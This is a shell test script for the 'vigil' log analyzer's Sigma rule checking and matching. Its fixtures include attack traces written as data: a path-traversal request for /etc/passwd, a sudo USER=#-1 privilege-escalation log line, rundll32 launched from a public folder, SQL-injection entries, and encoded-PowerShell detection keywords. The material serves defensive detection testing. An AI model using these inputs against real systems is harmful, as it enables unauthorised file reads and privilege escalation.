#!/bin/bash
# vigil rules check|test|fields on fixtures written here: each broken
# rule is refused with its file, line and reason, and exit codes say what
# happened; rules test shows hits with their fields; fields lists a
# source's map.  Then, on real logs when present, the literal prefilter
# changes no alert (analyze with and without --no-prefilter).
. "$(dirname "$0")/lib.sh"

R="$T/rules"
mkdir -p "$R/good" "$R/bad"
cat >"$R/good/root.yml" <<'EOF'
title: Root login
id: 11111111-1111-4111-8111-111111111111
level: high
tags: [attack.initial-access, attack.t1078]
logsource: {product: linux, service: sshd}
detection:
  s: {user.name: root, event.outcome: success}
  condition: s
EOF
# One reason per file; the line the loader must cite is in the name (for
# YAML errors, the line where the parser found the problem).
cat >"$R/bad/modifier_l8.yml" <<'EOF'
title: Unknown modifier
logsource: {product: linux, service: sshd}
detection:
  s:
    user.name: root
    process.name: sshd
    source.ip: 10.0.0.1
    user.name|sounds_like: rut
  condition: s
EOF
cat >"$R/bad/logsource_l2.yml" <<'EOF'
title: Unknown log source
logsource: {product: amiga, service: workbench}
detection:
  s: {user.name: root}
  condition: s
EOF
cat >"$R/bad/condition_l5.yml" <<'EOF'
title: Condition names nothing
logsource: {product: linux, service: sshd}
detection:
  s: {user.name: root}
  condition: s and nothere
EOF
cat >"$R/bad/yaml_l5.yml" <<'EOF'
title: Broken YAML
logsource: {product: linux, service: sshd}
detection:
  s: {user.name: [root
  condition: s
EOF
cat >"$R/bad/field_l4.yml" <<'EOF'
title: Field sshd does not give
logsource: {product: linux, service: sshd}
detection:
  s: {NoSuchFieldAnywhere: x}
  condition: s
EOF

"$VIGIL" rules check "$R/good" >"$T/good.out" 2>&1
check "check of good rules exits 0" [ $? -eq 0 ]
check "summary line" grep -q "^rules: 1 loaded, 0 refused, 100.00% loaded" \
	"$T/good.out"
check "prefilter line" grep -q "^prefilter: [0-9]* literals" "$T/good.out"
check "one rule: the prefilter line says why it has no literal" \
	grep -q "^prefilter: 0 literals (too few rules" "$T/good.out"

"$VIGIL" rules check "$R" >"$T/all.out" 2>&1
rc=$?
check "check with refusals still exits 0 (got $rc)" [ "$rc" -eq 0 ]
"$VIGIL" rules check --strict "$R" >/dev/null 2>&1
rc=$?
check "check --strict with refusals exits 1 (got $rc)" [ "$rc" -eq 1 ]
"$VIGIL" rules check --strict "$R/good" >/dev/null 2>&1
rc=$?
check "check --strict of good rules exits 0 (got $rc)" [ "$rc" -eq 0 ]
check "1 loaded, 5 refused" grep -q "^rules: 1 loaded, 5 refused" \
	"$T/all.out"
for f in "$R"/bad/*.yml; do
	line=$(basename "$f" .yml)
	line=${line##*_l}
	check "$(basename "$f") refused at line $line" \
		grep -q "^$f:$line: " "$T/all.out"
done
check "modifier reason" grep -q "modifier_l8.yml:8: .*sounds_like" \
	"$T/all.out"
check "log source reason" grep -qi "logsource_l2.yml:2: .*log source" \
	"$T/all.out"
check "condition reason" grep -q "condition_l5.yml:5: .*nothere" \
	"$T/all.out"
check "field reason" grep -q "field_l4.yml:4: .*NoSuchFieldAnywhere" \
	"$T/all.out"
"$VIGIL" rules check -q "$R" >"$T/q.out" 2>&1
check "-q prints the summary only" [ "$(grep -c "yml:" "$T/q.out")" -eq 0 ]
"$VIGIL" rules check "$T/absent" >/dev/null 2>&1
check "unreadable path exits 2" [ $? -eq 2 ]
"$VIGIL" rules check >/dev/null 2>&1
check "no path: usage, exit 2" [ $? -eq 2 ]

cat >"$T/auth.log" <<'EOF'
Mar  3 10:00:00 web sshd[1]: Failed password for root from 203.0.113.9 port 2 ssh2
Mar  3 10:00:05 web sshd[1]: Accepted password for root from 203.0.113.9 port 2 ssh2
Mar  3 10:00:09 web sshd[2]: Accepted password for alice from 198.51.100.1 port 3 ssh2
EOF
"$VIGIL" rules test "$R/good/root.yml" "$T/auth.log" >"$T/test.out" 2>&1
check "rules test exits 0 on a hit" [ $? -eq 0 ]
check "hit cites file:line, level, title and id" grep -qF \
	"$T/auth.log:2: hit [high] Root login (11111111-1111-4111-8111-111111111111)" \
	"$T/test.out"
check "hit shows the matched field" grep -q "^    user.name: root" \
	"$T/test.out"
check "one hit" grep -q "^hits: 1$" "$T/test.out"
"$VIGIL" rules test -r "$R/good" "$T/auth.log" >"$T/test2.out" 2>&1
check "rules test -r gives the same hit" grep -q "^hits: 1$" "$T/test2.out"
head -1 "$T/auth.log" >"$T/miss.log"
"$VIGIL" rules test "$R/good/root.yml" "$T/miss.log" >/dev/null 2>&1
check "rules test exits 1 without a hit" [ $? -eq 1 ]
"$VIGIL" rules test "$R/bad/yaml_l5.yml" "$T/auth.log" >/dev/null 2>&1
check "rules test of an unusable rule exits 2" [ $? -eq 2 ]
"$VIGIL" rules test "$R/good/root.yml" "$T/auth.log" "$T/no-such.log" \
	>"$T/unread.out" 2>&1
check "rules test exits 2 when a log cannot be read, after its hits" \
	[ $? -eq 2 ]
check "and says so" grep -q "1 log could not be read" "$T/unread.out"
check "the readable log's hit is still shown" grep -q "^hits: 1$" \
	"$T/unread.out"

# Slips in a rule's metadata are warned of, with their line; the rule
# still loads.  A misspelt detection key is named in the refusal.
mkdir -p "$T/meta"
cat >"$T/meta/slips.yml" <<'EOF'
title: Slips in metadata
status: experimentl
tags:
  - attack.executon
  - attack.t1059x
  - attack.t1059.001
  - attack.defense_evasion
  - cve.2021-44228
logsource: {product: linux, service: sshd}
detection:
  s: {user.name: root}
  condition: s
EOF
cat >"$T/meta/detections.yml" <<'EOF'
title: Misspelt detection key
logsource: {product: linux, service: sshd}
detections:
  s: {user.name: root}
  condition: s
EOF
"$VIGIL" rules check "$T/meta" >"$T/meta.out" 2>&1
check "meta: an unknown status is warned of on its line" \
	grep -q "slips.yml:2: status 'experimentl' is not one of" "$T/meta.out"
check "meta: a misspelt tactic is warned of on its line" \
	grep -q "slips.yml:4: tag 'attack.executon' names no ATT&CK" \
	"$T/meta.out"
check "meta: a malformed technique id too" \
	grep -q "slips.yml:5: tag 'attack.t1059x'" "$T/meta.out"
check "meta: good tags, old-style names and other namespaces are not" \
	bash -c "! grep -qE 'slips.yml:(6|7|8):' '$T/meta.out'"
check "meta: the rule still loads" grep -q "1 refused" "$T/meta.out"
check "meta: a misspelt detection key is named" \
	grep -q "did you mean 'detection' for 'detections'" "$T/meta.out"

# Sigma `fields`: the fields worth showing come after the tested ones,
# in the list's order, each once; a name the source lacks is left out.
cat >"$T/shown.yml" <<'EOF'
title: Root login, with the fields to look at
logsource: {product: linux, service: sshd}
detection:
  s: {user.name: root, event.outcome: success}
  condition: s
fields:
  - source.ip
  - user.name
  - no.such.field
  - host.name
EOF
"$VIGIL" rules test "$T/shown.yml" "$T/auth.log" >"$T/shown.out" 2>&1
check "fields: listed fields follow the tested ones" \
	bash -c "grep '^    ' '$T/shown.out' | sed 's/: .*//' | tr -d ' ' |
		tr '\\n' , | grep -qx 'user.name,event.outcome,fieldsource.ip,fieldhost.name,'"
check "fields: the value is shown" \
	grep -q "^    field source.ip: 203.0.113.9$" "$T/shown.out"

# A filter's fields come after the matching selection's, marked as the
# ones that did not hold: the value that let the record through.
cat >"$T/unmet.yml" <<'EOF'
title: Root login, not from the bastion
logsource: {product: linux, service: sshd}
detection:
  s: {user.name: root, event.outcome: success}
  bastion: {source.ip: 192.0.2.1}
  condition: s and not bastion
EOF
"$VIGIL" rules test "$T/unmet.yml" "$T/auth.log" >"$T/unmet.out" 2>&1
check "fields: a filter's field follows, marked unmatched" \
	bash -c "grep '^    ' '$T/unmet.out' | sed 's/: .*//' | tr -d ' ' |
		tr '\\n' , | grep -qx 'user.name,event.outcome,unmatchedsource.ip,'"

# sudo's own keys are Sigma field names of the sudo source: a target
# user given as a number (#-1) is what CVE-2019-14287 exploits look like.
cat >"$T/sudo_uid.yml" <<'EOF'
title: sudo to a numeric user
logsource: {product: linux, service: sudo}
detection:
  s: {USER|startswith: '#', COMMAND|endswith: /bash, PWD: /home/bob}
  condition: s
EOF
cat >"$T/sudo.log" <<'EOF'
Dec  1 10:00:00 h1 sudo:  bob : TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/bin/bash
Dec  1 10:00:01 h1 sudo:  bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash
EOF
"$VIGIL" rules test "$T/sudo_uid.yml" "$T/sudo.log" >"$T/sudo.out" 2>&1
check "sudo USER, COMMAND and PWD: a hit on line 1" \
	grep -q "^$T/sudo.log:1: hit" "$T/sudo.out"
check "sudo USER: the root line does not match" grep -q "^hits: 1$" \
	"$T/sudo.out"

"$VIGIL" rules fields linux/sshd >"$T/fields.out" 2>&1
check "fields of linux/sshd" grep -q "^log source product=linux" \
	"$T/fields.out"
"$VIGIL" rules fields amiga/workbench >/dev/null 2>&1
check "fields of an unknown source fails" [ $? -ne 0 ]
"$VIGIL" rules frobnicate >/dev/null 2>&1
check "unknown subcommand exits 2" [ $? -eq 2 ]

# The prefilter changes no alert: community rules over the EVTX samples
# and the loghub syslog samples, alerts compared as (rule, time, count).
S="$DATASETS/sigma"
if [ -d "$S/rules" ] && [ -d "$DATASETS/evtx-attack-samples" ]; then
	in=("$DATASETS/evtx-attack-samples" "$DATASETS/loghub/Linux" \
		"$DATASETS/loghub/OpenSSH")
	for pf in on off; do
		opt=()
		[ $pf = off ] && opt=(--no-prefilter)
		"$VIGIL" analyze --quiet --format json --no-default-rules \
			-r "$S/rules" "${opt[@]}" -o "$T/pf-$pf.json" \
			"${in[@]}" 2>/dev/null
		python3 - "$T/pf-$pf.json" >"$T/pf-$pf.txt" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
for a in sorted((x["rule"]["id"], x["ts_first"], x["count"])
                for x in d["alerts"]):
    print(*a)
PY
	done
	check "alerts found with the prefilter" [ -s "$T/pf-on.txt" ]
	check "prefilter on and off give the same alerts" \
		cmp -s "$T/pf-on.txt" "$T/pf-off.txt"
	echo "prefilter: $(wc -l <"$T/pf-on.txt") alerts, same both ways"
else
	echo "SKIP: prefilter comparison: no sigma or evtx samples dataset"
fi

# analyze --threads N: the JSON report is byte-identical to one thread's
# but for the elapsed time, on the demo and on loghub.
same_report() {	# what input...
	what=$1
	shift
	for n in 1 4; do
		"$VIGIL" analyze --quiet --format json --threads $n \
			-o "$T/thr$n.json" "$@" 2>/dev/null
		sed -E 's/"elapsed_us": *[0-9]+/"elapsed_us": 0/' \
			"$T/thr$n.json" >"$T/thr$n.norm"
	done
	check "$what: report written" [ -s "$T/thr1.norm" ]
	check "$what: --threads 4 report = --threads 1 report" \
		cmp -s "$T/thr1.norm" "$T/thr4.norm"
}
"$VIGIL" analyze --threads 0 "$T/auth.log" >/dev/null 2>&1
check "--threads 0 is a usage error" [ $? -eq 2 ]
if [ -x "${VIGIL_DEMO_GEN:-}" ]; then
	"$VIGIL_DEMO_GEN" "$T/demo" >/dev/null
	same_report demo "$T"/demo/*.log "$T"/demo/*.json
else
	echo "SKIP: --threads on the demo: no vigil-demo-gen"
fi
if [ -d "$DATASETS/loghub" ]; then
	same_report loghub "$DATASETS/loghub"
else
	echo "SKIP: --threads on loghub: dataset absent"
fi

# The same on EVTX records, whose JSON rendering is made only when read
# (a keyword rule, an alert's evidence): worker threads make it from
# their copy of the record, and it must be the reader's, byte for byte.
cat >"$T/kw.yml" <<'EOF'
title: Encoded PowerShell in the record
id: 22222222-2222-4222-8222-222222222222
level: high
logsource: {product: windows}
detection:
  keywords: ['"CommandLine":"powershell -enc']
  condition: keywords
EOF
for n in 1 2 4; do
	"$VIGIL" analyze --quiet --format json --threads $n \
		--no-default-rules -r "$T/kw.yml" -o "$T/kw$n.json" \
		"$SRCDIR/tests/fuzz/corpus/input_evtx/twenty_records.evtx" \
		2>/dev/null
	sed -E 's/"elapsed_us": *[0-9]+/"elapsed_us": 0/' "$T/kw$n.json" \
		>"$T/kw$n.norm"
done
check "evtx: a keyword rule fires on each of the 20 records" \
	grep -q '"alerts": *20,' "$T/kw1.norm"
# Each evidence line's text is its own record's rendering.
evidence_own() {
	python3 - "$1" <<'PY'
import json, sys
ev = [e for i in json.load(open(sys.argv[1]))["incidents"]
      for e in i["evidence"]]
sys.exit(not ev or any(
    '"EventRecordID":"%d"' % e["line"] not in e["text"] for e in ev))
PY
}
check "evtx: evidence is each record's own rendering" evidence_own \
	"$T/kw2.json"
check "evtx: --threads 2 report = --threads 1 report" \
	cmp -s "$T/kw1.norm" "$T/kw2.norm"
check "evtx: --threads 4 report = --threads 1 report" \
	cmp -s "$T/kw1.norm" "$T/kw4.norm"

# 120 files of 20 records: batches of 1,024 span files, and a batch is
# still being matched and merged after its files were closed; evidence
# must still name each record's own file.
mkdir -p "$T/many"
for i in $(seq 100 219); do
	cp "$SRCDIR/tests/fuzz/corpus/input_evtx/twenty_records.evtx" \
		"$T/many/host$i.evtx"
done
for n in 1 2; do
	"$VIGIL" analyze --quiet --format json --threads $n \
		--no-default-rules -r "$T/kw.yml" -o "$T/many$n.json" \
		"$T/many" 2>/dev/null
	sed -E 's/"elapsed_us": *[0-9]+/"elapsed_us": 0/' "$T/many$n.json" \
		>"$T/many$n.norm"
done
check "evtx: 2,400 records in 120 files, one alert each" \
	grep -q '"alerts": *2400,' "$T/many1.norm"
check "evtx: across batches, --threads 2 report = --threads 1 report" \
	cmp -s "$T/many1.norm" "$T/many2.norm"
many_files() {
	python3 - "$1" <<'PY'
import json, sys
files = {e["file"] for i in json.load(open(sys.argv[1]))["incidents"]
         for e in i["evidence"]}
sys.exit(not files or any("/many/host" not in f for f in files))
PY
}
check "evtx: across batches, evidence names the records' files" \
	many_files "$T/many2.json"

# rules fields: the header comes first; bare categories and services;
# every source listed without an argument; a refused source says why.
"$VIGIL" rules fields windows/process_creation >"$T/wpc.out" 2>&1
check "fields: the log source line comes first" \
	grep -q "^log source product=windows .*category=process_creation" \
	<(head -1 "$T/wpc.out")
check "fields: the names Sysmon 1 and 4688 carry are listed" \
	grep -q "^    .*ParentUser" "$T/wpc.out"
check "fields: each name once" \
	[ "$(grep '^    ' "$T/wpc.out" | tr ' ' '\n' | grep -cx ProcessId)" \
	  -eq 1 ]
check "fields: an open source says other names are read as spelt" \
	grep -q "^  so is any other name: it is looked up as the record" \
	"$T/wpc.out"
"$VIGIL" rules fields windows/security >"$T/sec.out" 2>&1
check "fields: the Security log lists AccessList's message references" \
	grep -q '^    %%4417   WriteData (or AddFile)$' "$T/sec.out"

# Message references: a rule written against the event viewer's text
# fires on the record's reference, and one written against the reference
# on a record exported as text; the reference of another right does not.
cat >"$T/mref.yml" <<'EOF'
title: Service control pipe opened for writing
id: 6f1c2b3a-0d4e-4f5a-8b6c-7d8e9f0a1b2c
logsource: {product: windows, service: security}
detection:
  s: {EventID: 5145, RelativeTargetName: svcctl, AccessList|contains: WriteData}
  condition: s
level: medium
---
title: Share object read
id: 7a2d3c4b-1e5f-4a6b-9c7d-8e9f0a1b2c3d
logsource: {product: windows, service: security}
detection:
  s: {EventID: 5145, AccessList|contains: '%%4416'}
  condition: s
level: low
EOF
printf '%s\n' \
'{"EventID": 5145, "Channel": "Security", "RelativeTargetName": "svcctl", "AccessList": "%%1538\r\n\t\t\t\t%%4417\r\n\t\t\t\t"}' \
'{"EventID": 5145, "Channel": "Security", "RelativeTargetName": "svcctl", "AccessList": "%%1538\r\n\t\t\t\t%%4418\r\n\t\t\t\t"}' \
'{"EventID": 5145, "Channel": "Security", "RelativeTargetName": "x", "AccessList": "READ_CONTROL ReadData (or ListDirectory)"}' \
	>"$T/mref.json"
"$VIGIL" rules test "$T/mref.yml" "$T/mref.json" >"$T/mref.out" 2>&1
check "msgref: WriteData fires on %%4417" \
	grep -q "mref.json:1: hit \[medium\] Service control pipe" "$T/mref.out"
check "msgref: WriteData does not fire on %%4418" \
	[ "$(grep -c "hit \[medium\]" "$T/mref.out")" -eq 1 ]
check "msgref: %%4416 fires on the text ReadData" \
	grep -q "mref.json:3: hit \[low\] Share object read" "$T/mref.out"

# cs-uri-query also reads the whole URL: a path-only request fires a
# rule on it, and the hit shows the URL it was found in.
cat >"$T/q.yml" <<'EOF'
title: Traversal in the query
logsource: {category: webserver}
detection:
  s: {cs-uri-query|contains: '/.%2e/'}
  condition: s
level: high
EOF
printf '%s\n' '10.0.0.1 - - [01/Mar/2024:10:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1" 200 12 "-" "curl/8"' \
	>"$T/q.log"
"$VIGIL" rules test "$T/q.yml" "$T/q.log" >"$T/q.out" 2>&1
check "cs-uri-query: a path-only request hits" \
	grep -q "q.log:1: hit \[high\] Traversal in the query" "$T/q.out"
check "cs-uri-query: the hit shows the URL it was found in" \
	grep -q "^    url.original: /cgi-bin/" "$T/q.out"

for name in proxy webserver process_creation sshd; do
	"$VIGIL" rules fields $name >"$T/bare.out" 2>&1
	check "fields of bare '$name' exits 0" [ $? -eq 0 ]
	check "fields of bare '$name' names its source" grep -q \
		"^log source .*=$name\( \|$\)" <(head -1 "$T/bare.out")
done
"$VIGIL" rules fields process_creation >"$T/pc.out" 2>&1
check "fields of a category in several products lists the others" \
	grep -q "also names:.*windows/process_creation" "$T/pc.out"
"$VIGIL" rules fields nosuchcategory >/dev/null 2>"$T/nosuch.err"
check "fields of an unknown name exits 1" [ $? -eq 1 ]
check "an unknown name says how to list the sources" \
	grep -q "vigil rules fields. lists them all" "$T/nosuch.err"
"$VIGIL" rules fields >"$T/all-src.out" 2>&1
check "fields without an argument exits 0" [ $? -eq 0 ]
check "fields without an argument lists linux/sshd" \
	grep -q "^linux/sshd  *product=linux service=sshd category=-$" \
	"$T/all-src.out"
check "fields without an argument lists many sources" \
	[ "$(grep -c "product=.* service=.* category=" "$T/all-src.out")" \
	-gt 50 ]
while read -r name label; do
	[ "$name" = - ] && continue
	"$VIGIL" rules fields "$name" 2>/dev/null | head -1 >"$T/one.out"
	[ "$(cat "$T/one.out")" = "log source ${label% (refused)}" ] ||
		fail "listed name '$name' finds '$label'"
done <"$T/all-src.out"
ok
"$VIGIL" rules fields windows/file_rename >"$T/ren.out" 2>&1
check "a refused source prints its reason" \
	grep -q "^  refused: .*Kernel-File" "$T/ren.out"
check "a refused source lists no field" \
	[ "$(grep -c "any event field" "$T/ren.out")" -eq 0 ]

# Sysmon's later events of a process get the command line and parent of
# its creation (Sysmon 1), so a network_connection rule on CommandLine
# matches, as it would on an EDR export carrying it.
cat >"$T/enr.jsonl" <<'EOF'
{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.example.test", "TimeCreated_SystemTime": "2024-03-01T10:00:00Z", "ProcessGuid": "{11111111-2222-3333-4444-555555555555}", "Image": "C:\\Windows\\System32\\rundll32.exe", "CommandLine": "rundll32.exe C:\\Users\\Public\\x.dll,Start", "ParentImage": "C:\\Windows\\explorer.exe"}
{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.example.test", "TimeCreated_SystemTime": "2024-03-01T10:00:01Z", "ProcessGuid": "{11111111-2222-3333-4444-555555555555}", "Image": "C:\\Windows\\System32\\rundll32.exe", "DestinationIp": "203.0.113.9", "DestinationPort": "443", "Initiated": "true"}
{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.example.test", "TimeCreated_SystemTime": "2024-03-01T10:00:02Z", "ProcessGuid": "{11111111-2222-3333-4444-666666666666}", "Image": "C:\\Windows\\System32\\rundll32.exe", "DestinationIp": "203.0.113.9", "DestinationPort": "443", "Initiated": "true"}
EOF
cat >"$T/enr.yml" <<'EOF'
title: rundll32 running a DLL from Public connects out
id: 4b8e2c6a-9d13-4f70-8a25-c3e1f7b9d046
logsource: {product: windows, category: network_connection}
detection:
  s:
    Image|endswith: '\rundll32.exe'
    CommandLine|contains: '\Users\Public\'
  condition: s
EOF
"$VIGIL" rules test "$T/enr.yml" "$T/enr.jsonl" >"$T/enr.out" 2>&1
check "a Sysmon 3 gets its process's command line from Sysmon 1" \
	grep -q "enr.jsonl:2: hit" "$T/enr.out"
check "another process's connection gets none" grep -q "^hits: 1$" \
	"$T/enr.out"
check "CommandLine in network_connection loads without a warning" \
	bash -c "! grep -qi 'warn' '$T/enr.out'"

# Sigma's generic network category (no product): connection and DNS
# records from Suricata and Zeek, under ECS names.
cat >"$T/netconn.yml" <<'EOF'
title: Outbound SSH connection
id: 5c0f8a52-1d3e-4b7a-9e26-7f4c3b8d1a90
logsource: {category: network, service: connection}
detection:
  sel: {destination.port: 22, network.transport: tcp}
  condition: sel
EOF
cat >"$T/netdns.yml" <<'EOF'
title: Lookup of a tunnelling domain
id: 2e9d7b14-6a0c-4f38-8d51-3b6e9c2a7f05
logsource: {category: network, service: dns}
detection:
  sel: {dns.question.name|endswith: .tunnel.example}
  condition: sel
EOF
cat >"$T/eve.json" <<'EOF'
{"timestamp":"2024-03-01T10:00:00.000000+0000","event_type":"flow","src_ip":"10.0.0.5","src_port":50000,"dest_ip":"203.0.113.9","dest_port":22,"proto":"TCP"}
{"timestamp":"2024-03-01T10:00:01.000000+0000","event_type":"alert","src_ip":"10.0.0.5","src_port":50001,"dest_ip":"203.0.113.9","dest_port":22,"proto":"TCP","alert":{"signature":"x","signature_id":1}}
{"timestamp":"2024-03-01T10:00:02.000000+0000","event_type":"dns","src_ip":"10.0.0.5","src_port":50002,"dest_ip":"10.0.0.53","dest_port":53,"proto":"UDP","dns":{"type":"query","rrname":"a.tunnel.example"}}
EOF
cat >"$T/conn.json" <<'EOF'
{"ts":1709287200.0,"uid":"C1","id.orig_h":"10.0.0.6","id.orig_p":50003,"id.resp_h":"203.0.113.9","id.resp_p":22,"proto":"tcp","conn_state":"SF"}
EOF
"$VIGIL" rules test "$T/netconn.yml" "$T/eve.json" "$T/conn.json" \
	>"$T/net.out" 2>&1
check "network/connection: the Suricata flow" grep -q "eve.json:1: hit" \
	"$T/net.out"
check "network/connection: not the Suricata alert" \
	bash -c "! grep -q 'eve.json:2: hit' '$T/net.out'"
check "network/connection: the Zeek conn record" \
	grep -q "conn.json:1: hit" "$T/net.out"
"$VIGIL" rules test "$T/netdns.yml" "$T/eve.json" >"$T/dns.out" 2>&1
check "network/dns: the Suricata DNS query" grep -q "eve.json:3: hit" \
	"$T/dns.out"
"$VIGIL" rules fields network/dns >"$T/nd.out" 2>&1
check "fields of network/dns (CATEGORY/SERVICE)" \
	grep -q "^log source product=- service=dns category=network$" \
	"$T/nd.out"

# Every log source of the Sigma taxonomy appendix is known to vigil.
TAX="$DATASETS/sigma/specification/specification/sigma-appendix-taxonomy.md"
if [ -f "$TAX" ]; then
	python3 - "$TAX" >"$T/tax.names" <<'EOF'
import re, sys
row = re.compile(r"\|[^|]*\|\s*((?:(?:product|service|category): "
                 r"[^<|]+?(?:<br>)?)+)\s*\|")
for line in open(sys.argv[1], encoding="utf-8"):
    m = row.match(line)
    if not m:
        continue
    kv = dict(x.split(": ", 1) for x in m.group(1).split("<br>") if x)
    kv = {k: v.strip() for k, v in kv.items()}
    p, s, c = kv.get("product"), kv.get("service"), kv.get("category")
    if p:
        print(p + "/" + (s or c) if (s or c) else p)
    else:
        print(c + "/" + s if s and c else (s or c))
EOF
	n=0
	while read -r name; do
		n=$((n + 1))
		"$VIGIL" rules fields "$name" >/dev/null 2>&1 ||
			fail "taxonomy log source '$name' unknown"
	done <"$T/tax.names"
	check "the taxonomy lists over 100 log sources ($n)" [ "$n" -gt 100 ]
else
	echo "SKIP: no Sigma taxonomy at $TAX (the taxonomy part only)"
fi

# Web server error logs: Sigma's service apache / nginx rules read the
# servers' error.log, product modsecurity its ModSecurity messages; none
# of them fires on an access log carrying the same words.
cat >"$T/error.log" <<'EOF'
[Sun Dec 04 04:47:44 2005] [notice] jk2_init() Found child 6725 in scoreboard slot 10
[Sun Dec 04 04:51:08 2005] [notice] child pid 6725 exit signal Segmentation Fault (11)
[Wed Oct 11 14:32:52.123456 2023] [core:error] [pid 1234:tid 140] [client 10.0.0.2:5555] AH00126: Invalid URI in request GET /%zz HTTP/1.1
[Wed Oct 11 14:32:53.000001 2023] [security2:error] [pid 1234:tid 140] [client 10.0.0.2:5555] [client 10.0.0.2] ModSecurity: Access denied with code 403 (phase 2). Pattern match "union.*select" at ARGS:id. [file "/etc/modsecurity/r.conf"] [line "12"] [id "942100"] [msg "SQL Injection Attack Detected via libinjection"] [severity "CRITICAL"] [uri "/item.php"] [unique_id "ZSa8hH8AAQEAAAbSAAAAAA"]
EOF
cat >"$T/nginx-error.log" <<'EOF'
2023/10/11 14:32:52 [alert] 1200#1200: worker process 1201 exited on signal 6 (core dumped)
2023/10/11 14:32:53 [error] 1201#1201: *5 [client 10.0.0.1] ModSecurity: Warning. Matched "Operator `Rx'" [file "/etc/nginx/crs/r.conf"] [line "45"] [id "942100"] [msg "SQL Injection"] [uri "/x"] [unique_id "169702397238.441722"], client: 10.0.0.1, server: example.org, request: "GET /x?id=1%27 HTTP/1.1", host: "example.org"
EOF
cat >"$T/weberr-access.log" <<'EOF'
10.0.0.3 - - [11/Oct/2023:14:32:52 +0000] "GET /?q=exit%20signal%20Segmentation%20Fault HTTP/1.1" 404 12 "-" "exit signal Segmentation Fault"
10.0.0.3 - - [11/Oct/2023:14:32:53 +0000] "GET /?q=942100 HTTP/1.1" 404 12 "-" "exited on signal 6 (core dumped) ModSecurity: Access denied [id \"942100\"]"
EOF
cat >"$T/apache-segv.yml" <<'EOF'
title: Apache worker crashed
id: 8f1d0c3a-2b4e-4c6f-9a7d-1e2f3a4b5c6d
logsource: {service: apache}
detection:
  keywords: ['exit signal Segmentation Fault']
  condition: keywords
EOF
cat >"$T/modsec-sqli.yml" <<'EOF'
title: ModSecurity SQL injection rule
id: 3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f
logsource: {product: modsecurity}
detection:
  sel: {id: '942100', msg|contains: 'SQL Injection'}
  condition: sel
EOF
"$VIGIL" rules test "$T/apache-segv.yml" "$T/error.log" \
	"$T/weberr-access.log" >"$T/segv.out" 2>&1
check "service apache: the error.log crash line hits" \
	grep -q "error.log:2: hit" "$T/segv.out"
check "service apache: one hit, none on the access log" \
	grep -q "^hits: 1$" "$T/segv.out"
"$VIGIL" rules test "$T/modsec-sqli.yml" "$T/error.log" \
	"$T/nginx-error.log" "$T/weberr-access.log" >"$T/msec.out" 2>&1
check "product modsecurity: Apache's ModSecurity line hits" \
	grep -q "/error.log:4: hit" "$T/msec.out"
check "product modsecurity: nginx's ModSecurity line hits" \
	grep -q "nginx-error.log:2: hit" "$T/msec.out"
check "product modsecurity: two hits, none on the access log" \
	grep -q "^hits: 2$" "$T/msec.out"
"$VIGIL" rules fields modsecurity >"$T/msf.out" 2>&1
check "fields of modsecurity map its tag names" \
	grep -q "^  unique_id  *http.request.id$" "$T/msf.out"
SIGWEB="$DATASETS/sigma/rules/web/product"
if [ -d "$SIGWEB/apache" ] && [ -d "$SIGWEB/nginx" ]; then
	"$VIGIL" rules test -r "$SIGWEB/apache" -r "$SIGWEB/nginx" \
		"$T/error.log" "$T/nginx-error.log" "$T/weberr-access.log" \
		>"$T/sigweb.out" 2>&1
	check "community: Apache Segmentation Fault on error.log" \
		grep -q "error.log:2: hit .*Apache Segmentation Fault" \
		"$T/sigweb.out"
	check "community: Nginx Core Dump on nginx's error log" \
		grep -q "nginx-error.log:1: hit .*Nginx Core Dump" \
		"$T/sigweb.out"
	check "community: two hits, none on the access log" \
		grep -q "^hits: 2$" "$T/sigweb.out"
else
	echo "SKIP: no Sigma web rules at $SIGWEB (the community part only)"
fi
"$VIGIL" analyze "$T/error.log" "$T/nginx-error.log" >"$T/wea.out" \
	2>"$T/wea.err"
check "analyze of error logs exits 0" [ $? -eq 0 ]
check "analyze of error logs warns of nothing" [ ! -s "$T/wea.err" ]
check "analyze counts every error-log line as decoded" \
	grep -q "6 records, 6 decoded, 0 raw" "$T/wea.out"

# The shipped web rules on error logs: ModSecurity's denial is an alert;
# ten failed HTTP authentications from one address are a correlation,
# nine are not.
{
	for i in 1 2 3 4 5; do
		echo "[Wed Oct 11 15:00:0$i.000001 2023] [auth_basic:error] [pid 1234:tid 140] [client 192.0.2.77:4100$i] AH01617: user admin$i: authentication failure for \"/admin\": Password Mismatch"
	done
	for i in 6 7 8 9; do
		echo "[Wed Oct 11 15:00:0$i.000001 2023] [auth_basic:error] [pid 1234:tid 140] [client 192.0.2.77:4100$i] AH01618: user root$i not found: /admin"
	done
	echo "[Wed Oct 11 15:00:09.500000 2023] [auth_basic:error] [pid 1234:tid 140] [client 192.0.2.78:41010] AH01618: user bob not found: /admin"
} >"$T/auth-error.log"
cp "$T/auth-error.log" "$T/auth-error10.log"
echo "2023/10/11 15:00:10 [error] 1201#1201: *9 user \"admin\": password mismatch, client: 192.0.2.77, server: example.org, request: \"GET /admin HTTP/1.1\", host: \"example.org\"" >>"$T/auth-error10.log"
"$VIGIL" rules test "$SRCDIR/rules/web/web_basic_auth_guessing.yml" \
	"$T/auth-error.log" >"$T/auth9.out" 2>&1
check "nine HTTP authentication failures from one address: no alert" \
	bash -c "! grep -q 'correlation' '$T/auth9.out'"
"$VIGIL" rules test "$SRCDIR/rules/web/web_basic_auth_guessing.yml" \
	"$T/auth-error10.log" >"$T/auth10.out" 2>&1
check "ten (Apache and nginx lines): the guessing correlation fires" \
	grep -q "correlation .*HTTP authentication failing again and again.*(10 events)" \
	"$T/auth10.out"
"$VIGIL" rules test "$SRCDIR/rules/web/web_modsecurity_denied.yml" \
	"$T/error.log" "$T/nginx-error.log" "$T/weberr-access.log" \
	>"$T/deny.out" 2>&1
check "ModSecurity's denial is an alert" \
	grep -q "/error.log:4: hit .*Request denied by ModSecurity" "$T/deny.out"
check "its warning (nginx) and the access log are not" \
	grep -q "^hits: 1$" "$T/deny.out"
